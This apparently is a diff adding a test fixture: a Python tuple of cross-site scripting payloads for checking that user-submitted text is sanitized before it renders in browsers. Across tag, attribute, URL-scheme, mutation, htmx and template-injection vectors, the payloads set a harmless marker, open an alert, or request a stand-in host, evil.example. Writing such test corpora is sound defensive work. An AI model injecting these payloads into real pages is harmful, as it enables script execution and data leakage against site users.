@@ -1,0 +1,63 @@
+"""What people have put into texts so that it acts in the browsers of others. Each would set ``window.__hit``, open a
+dialog, or ask an address with ``hit`` in it."""
+
+PAYLOADS = (
+    # Tags that act
+    "<script>__hit=1</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    '"><script src=//evil.example/hit.js></script>',
+    "</script><script type=module>__hit=1</script>",
+    "</textarea></title></style><script>__hit=1</script>",
+    "<!--><script>__hit=1</script>-->",
+    "<![CDATA[<script>__hit=1</script>]]>",
+    "<scr<script>ipt>__hit=1</scr</script>ipt>",
+    # Attributes that act
+    "<img src=x onerror=__hit=1>",
+    "<img/src=x/onerror=__hit=1>",
+    '<img src=x onerror="&#95;&#95;hit&#61;1">',
+    "' autofocus onfocus='__hit=1",
+    '" onmouseover="__hit=1" onload="__hit=1" style="animation:a 1s" x="',
+    "<svg onload=__hit=1>",
+    "<svg><animate onbegin=__hit=1 attributeName=x dur=1s>",
+    "<svg><script>__hit=1</script></svg>",
+    "<details open ontoggle=__hit=1>x</details>",
+    "<input autofocus onfocus=__hit=1>",
+    "<body onload=__hit=1 onpageshow=__hit=1>",
+    "<video><source onerror=__hit=1></video><audio src=x onerror=__hit=1>",
+    # Addresses
+    "[x](javascript:__hit=1)",
+    "[x](JaVa&#x53;cript&colon;__hit=1)",
+    "[x](<java\tscript:__hit=1>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:__hit=1) [y](blob:http://evil.example/hit) [z](//evil.example/hit)",
+    "<javascript:__hit=1> <data:text/html,<script>alert(1)</script>>",
+    '<https://evil.example/"onmouseover="__hit=1> https://evil.example/"onfocus="__hit=1',
+    '[x](https://evil.example/"onfocus="__hit=1"autofocus=" "t\'onclick=\'__hit=1")',
+    "[x][r]\n\n[r]: javascript:__hit=1 (t)",
+    "<a href=javascript:__hit=1 id=toasts>x</a><a href=java&#10;script:__hit=1>y</a>",
+    "<iframe src=javascript:parent.__hit=1></iframe>",
+    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
+    "<object data=javascript:__hit=1></object><embed src=//evil.example/hit>",
+    "<form action=//evil.example/hit><button formaction=javascript:__hit=1 autofocus>x</button></form>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='__hit=1'/>#x\"/></svg>",
+    # What asks somebody else
+    "![x](http://evil.example/hit.png) <img src=//evil.example/hit.png>",
+    '![x" onerror="__hit=1](images/00000000000000000000000000000000.png "t" onerror="__hit=1")',
+    '<style>@import "//evil.example/hit.css"; * { background: url(//evil.example/hit) }</style>',
+    "<link rel=stylesheet href=//evil.example/hit.css><p style=background:url(//evil.example/hit)>x</p>",
+    '<meta http-equiv=refresh content="0;url=//evil.example/hit">',
+    '<base href="//evil.example/hit/"><a href=/hit ping=//evil.example/hit>x</a>',
+    # What becomes something else when it is read twice
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__hit=1&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=__hit=1>">',
+    '<svg></p><style><a id="</style><img src=1 onerror=__hit=1>">',
+    "<template><img src=x onerror=__hit=1></template><xmp></xmp><img src=x onerror=__hit=1>",
+    "&lt;img src=x onerror=__hit=1&gt; &amp;lt;script&amp;gt;__hit=1",
+    "`</code><img src=x onerror=__hit=1>` ~~</del><script>__hit=1</script>~~ <ins class=came>x",
+    # What speaks to our own scripts and templates
+    '<div hx-get="/hit" hx-trigger="load" data-hx-get="/hit" data-hx-trigger="load">x</div>',
+    "<b hx-post=/hit hx-trigger=load hx-vals='js:{x:__hit=1}' hx-on:click=__hit=1 hx-on::load=__hit=1>x</b>",
+    '<hx-partial hx-target="body"><script>__hit=1</script></hx-partial><i hx-swap-oob="beforeend:body">x</i>',
+    "<form name=elements id=words><input name=body></form><img name=getElementById src=x>",
+    "{{ 7*7 }}{% raw %}${__hit=1}{why}%(name)s<%= 1 %>",
+)
